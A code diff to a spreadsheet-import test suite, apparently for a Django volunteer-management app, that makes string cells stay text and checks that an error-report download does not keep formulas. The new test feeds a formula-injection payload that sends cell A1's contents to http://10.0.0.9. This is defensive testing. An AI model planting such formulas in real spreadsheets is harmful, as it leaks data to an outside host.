@@ -53,8 +53,10 @@ def xlsx(rows, headers=HEADERS, *, extra_blank=0) -> bytes:
     sheet.append(headers)
     for values in rows:
         sheet.append(values)
-    for cell in sheet["D"]:
-        cell.data_type = "s"
+    for line in sheet.iter_rows():
+        for cell in line:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"  # text as typed, never a formula
     if extra_blank:
         sheet.cell(row=len(rows) + 1 + extra_blank, column=1, value=None)
     buffer = io.BytesIO()
@@ -322,3 +324,14 @@ def test_station_user_may_import_into_a_station_merged_into_theirs(world, staff)
     merged = WorkstationFactory(county=world.a.county, merged_into=world.a.station)
     response = upload(staff, xlsx([row(merged, 1)]))
     assert response.context["plan"].is_valid
+
+
+def test_error_report_downloads_as_xlsx_with_formula_values_kept_as_text(world, staff):
+    upload(staff, xlsx([row(world.a.station, 1, 工作站编号='=HYPERLINK("http://10.0.0.9/?"&A1,"x")')]))
+    response = staff.get(reverse("volunteers:import-errors"))
+    workbook = load_workbook(io.BytesIO(response.content))
+    sheet = workbook["导入错误"]
+    values = [[c.value for c in r] for r in sheet.iter_rows()]
+    assert values[0] == ["行", "列", "内容", "问题"]
+    assert values[1] == [2, "工作站编号", '=HYPERLINK("http://10.0.0.9/?"&A1,"x")', "工作站编号不存在"]
+    assert all(c.data_type != "f" for ws in workbook.worksheets for r in ws.iter_rows() for c in r)
